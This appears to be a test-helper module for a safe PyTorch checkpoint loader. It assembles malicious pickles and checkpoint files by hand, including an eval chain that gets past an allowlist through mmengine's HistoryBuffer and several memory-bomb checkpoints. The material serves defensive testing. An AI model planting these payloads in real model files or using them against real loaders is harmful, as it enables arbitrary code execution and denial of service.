# Copyright (c) mmext contributors. All rights reserved.
"""Hand-assembled pickles and the checkpoint containers torch reads them from.

For attack tests of :func:`mmext.utils.safe_torch_load`: :class:`Asm` writes
opcodes one by one (what an attacker does, since ``pickle.dumps`` never emits
the odd sequences that matter), and :func:`write_zip_checkpoint`,
:func:`write_legacy_checkpoint`, :func:`write_tar_checkpoint` wrap a pickle
in torch's zip format, its legacy stream format or the old tar format.
"""
import io
import pickle
import struct
import sys
import tarfile
import zipfile

import torch

__all__ = [
    'Asm', 'write_zip_checkpoint', 'write_legacy_checkpoint',
    'write_tar_checkpoint', 'splice_into_checkpoint', 'getattr_eval_chain',
    'marker_code', 'MEMORY_BOMBS', 'write_memory_bomb'
]


class Asm:
    """A pickle written opcode by opcode: ``Asm().glob('os', 'system')...``.

    Every method appends one opcode (or a short idiom) and returns ``self``;
    :meth:`bytes` adds PROTO 2 and STOP.
    """

    def __init__(self, proto=2):
        self.proto = proto
        self.out = bytearray()

    def op(self, code):
        self.out += code
        return self

    def glob(self, module, name):  # GLOBAL
        return self.op(b'c' + f'{module}\n{name}\n'.encode())

    def stack_glob(self, module, name):  # STACK_GLOBAL (protocol 4)
        return self.str(module).str(name).op(b'\x93')

    def str(self, text):  # BINUNICODE
        data = text.encode()
        return self.op(b'X' + struct.pack('<I', len(data)) + data)

    def bytes_(self, data):  # SHORT_BINBYTES / BINBYTES via _codecs
        # protocol 2 has no bytes opcode: torch.save uses _codecs.encode
        return (self.glob('_codecs', 'encode').str(
            data.decode('latin1')).str('latin1').op(b'\x86').reduce())

    def int(self, value):  # BININT
        return self.op(b'J' + struct.pack('<i', value))

    def long(self, value):  # LONG1: any int, e.g. a size above 2**31
        data = value.to_bytes(
            value.bit_length() // 8 + 1, 'little', signed=True)
        return self.op(b'\x8a' + bytes([len(data)]) + data)

    def none(self):
        return self.op(b'N')

    def true(self):
        return self.op(b'\x88')

    def false(self):
        return self.op(b'\x89')

    def mark(self):
        return self.op(b'(')

    def tuple(self):  # TUPLE (from MARK)
        return self.op(b't')

    def tuple1(self):
        return self.op(b'\x85')

    def tuple2(self):
        return self.op(b'\x86')

    def tuple3(self):
        return self.op(b'\x87')

    def empty_tuple(self):
        return self.op(b')')

    def empty_dict(self):
        return self.op(b'}')

    def empty_list(self):
        return self.op(b']')

    def setitem(self):
        return self.op(b's')

    def append(self):
        return self.op(b'a')

    def reduce(self):
        return self.op(b'R')

    def build(self):
        return self.op(b'b')

    def newobj(self):
        return self.op(b'\x81')

    def persid(self):  # BINPERSID
        return self.op(b'Q')

    def put(self, idx):  # LONG_BINPUT
        return self.op(b'r' + struct.pack('<I', idx))

    def get(self, idx):  # LONG_BINGET
        return self.op(b'j' + struct.pack('<I', idx))

    def pop(self):
        return self.op(b'0')

    def bytes(self):
        return bytes([0x80, self.proto]) + bytes(self.out) + b'.'


def _template_zip():
    buf = io.BytesIO()
    torch.save({'w': torch.zeros(2)}, buf)
    return buf.getvalue()


def write_zip_checkpoint(path, pickle_bytes, template=None):
    """Write ``pickle_bytes`` as ``data.pkl`` of a torch zip checkpoint.

    The other records (version, byte order, storages) come from
    ``template`` (bytes of a real ``torch.save`` file) or a tiny one.
    """
    src = zipfile.ZipFile(io.BytesIO(template or _template_zip()))
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                data = pickle_bytes
            dst.writestr(info.filename, data)
    return path


def write_legacy_checkpoint(path, pickle_bytes, where='main'):
    """torch's pre-1.6 stream format with ``pickle_bytes`` as one record.

    ``where`` is ``'magic'`` (the first record), ``'sys_info'`` or
    ``'main'`` (the object itself).
    """
    records = [
        pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps(
            dict(
                protocol_version=1001,
                little_endian=sys.byteorder == 'little',
                type_sizes=dict(short=2, int=4, long=4)),
            protocol=2),
        pickle.dumps({}, protocol=2),
        pickle.dumps([], protocol=2),
    ]
    records[{'magic': 0, 'sys_info': 2, 'main': 3}[where]] = pickle_bytes
    with open(path, 'wb') as f:
        f.write(b''.join(records))
    return path


def write_tar_checkpoint(path, pickle_bytes):
    """torch's oldest (tar) format with ``pickle_bytes`` in every member."""
    with tarfile.open(path, 'w:', format=tarfile.PAX_FORMAT) as tar:
        for name in ('sys_info', 'storages', 'tensors', 'pickle'):
            info = tarfile.TarInfo(name)
            info.size = len(pickle_bytes)
            tar.addfile(info, io.BytesIO(pickle_bytes))
    return path


def splice_into_checkpoint(src, dst, key, payload):
    """Copy a real zip checkpoint, adding ``key: <payload>`` to its top dict.

    ``payload`` is an :class:`Asm` whose opcodes push one object (no PROTO,
    STOP or memo use).
    """
    with open(src, 'rb') as f:
        template = f.read()
    with zipfile.ZipFile(io.BytesIO(template)) as z:
        name = next(n for n in z.namelist() if n.endswith('/data.pkl'))
        data = z.read(name)
    assert data.endswith(b'.'), 'not a complete pickle'
    spliced = (data[:-1] + Asm().str(key).out + payload.out + b's.')
    return write_zip_checkpoint(dst, spliced, template=template)


def getattr_eval_chain(code):
    """The allowlist escape: ``getattr`` -> builtins -> ``eval`` planted as
    ``__setstate__`` of a ``HistoryBuffer`` by one BUILD, called by a second.

    Pushes the HistoryBuffer (the payload has run once it is built).
    """
    a = Asm()
    a.glob('mmengine.logging.history_buffer', 'HistoryBuffer')
    a.empty_tuple().newobj()  # hb = HistoryBuffer.__new__(HistoryBuffer)
    a.empty_dict().str('__setstate__')
    # eval = getattr(getattr(getattr, '__self__'), 'eval')
    a.glob('builtins', 'getattr')
    a.glob('builtins', 'getattr').glob('builtins', 'getattr').str('__self__')
    a.tuple2().reduce()  # the builtins module
    a.str('eval').tuple2().reduce()
    a.setitem().build()  # hb.__dict__.update({'__setstate__': eval})
    a.str(code).build()  # hb.__setstate__(code) -> eval(code)
    return a


def marker_code(path):
    """A Python expression that creates ``path`` (the proof of execution)."""
    return f'open({str(path)!r}, "w").close()'


# --------------------------------------------------------------------------
# memory bombs: small files that make a loader allocate ``nbytes``


def _state_dict_of(value):
    """``{'state_dict': {'w': <value>}}`` around an Asm pushing one object."""
    a = Asm().empty_dict().str('state_dict').empty_dict().str('w')
    a.out += value.out
    return a.setitem().setitem()


def _storage(key, numel, storage='FloatStorage'):
    """The persistent id of storage record ``data/<key>`` (zip format)."""
    a = Asm().mark().str('storage').glob('torch', storage).str(key)
    return a.str('cpu').long(numel).tuple().persid()


def _bytearray_bomb(nbytes):
    return Asm().glob('builtins', 'bytearray').long(nbytes).tuple1().reduce()


def _uninitialised_tensor_bomb(nbytes):
    # torch.Tensor(n): n float32 elements of whatever memory held
    return Asm().glob('torch', 'Tensor').long(nbytes // 4).tuple1().reduce()


def _zero_stride_bomb(nbytes):
    # a (n,) view with stride 0 on the template's 2-float storage, copied
    # to float64 by the allowlisted device-rebuild helper
    view = Asm().glob('torch._utils', '_rebuild_tensor_v2').mark()
    view.out += _storage('0', 2).out
    view.int(0).long(nbytes // 8).tuple1().int(0).tuple1().false()
    view.glob('collections', 'OrderedDict').empty_tuple().reduce()
    view.tuple().reduce()
    a = Asm().glob('torch._utils', '_rebuild_device_tensor_from_cpu_tensor')
    a.mark().op(view.out).glob('torch', 'float64').str('cpu').false()
    return a.tuple().reduce()


def _deflated_record_bomb(nbytes):
    storage = Asm().glob('torch._utils', '_rebuild_tensor_v2').mark()
    storage.out += _storage('0', nbytes, 'ByteStorage').out
    storage.int(0).long(nbytes).tuple1().int(1).tuple1().false()
    storage.glob('collections', 'OrderedDict').empty_tuple().reduce()
    return storage.tuple().reduce()


#: kind -> function of nbytes -> Asm pushing the bomb (``write_memory_bomb``)
MEMORY_BOMBS = {
    'bytearray': _bytearray_bomb,
    'uninitialised tensor': _uninitialised_tensor_bomb,
    'zero-stride view': _zero_stride_bomb,
    'deflated record': _deflated_record_bomb,
}


def write_memory_bomb(path, kind, nbytes):
    """A torch zip checkpoint of a few hundred bytes that makes a loader
    without bounds allocate ``nbytes`` (``kind`` in :data:`MEMORY_BOMBS`).

    ``'deflated record'`` holds ``nbytes`` zero bytes in a deflated
    ``data/0`` record (about ``nbytes / 1000`` bytes on disk; torch.save
    never compresses); the others reuse a tiny template's 8-byte record.
    """
    pickle_bytes = _state_dict_of(MEMORY_BOMBS[kind](nbytes)).bytes()
    if kind != 'deflated record':
        return write_zip_checkpoint(path, pickle_bytes)
    src = zipfile.ZipFile(io.BytesIO(_template_zip()))
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            if info.filename.endswith('/data/0'):
                deflated = zipfile.ZipInfo(info.filename)
                deflated.compress_type = zipfile.ZIP_DEFLATED
                with dst.open(deflated, 'w', force_zip64=True) as out:
                    _write_zeros(out, nbytes)
                continue
            data = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                data = pickle_bytes
            dst.writestr(info.filename, data)
    return path


def _write_zeros(out, nbytes, chunk=1 << 20):
    zeros = bytes(chunk)
    for start in range(0, nbytes, chunk):
        out.write(zeros[:min(chunk, nbytes - start)])
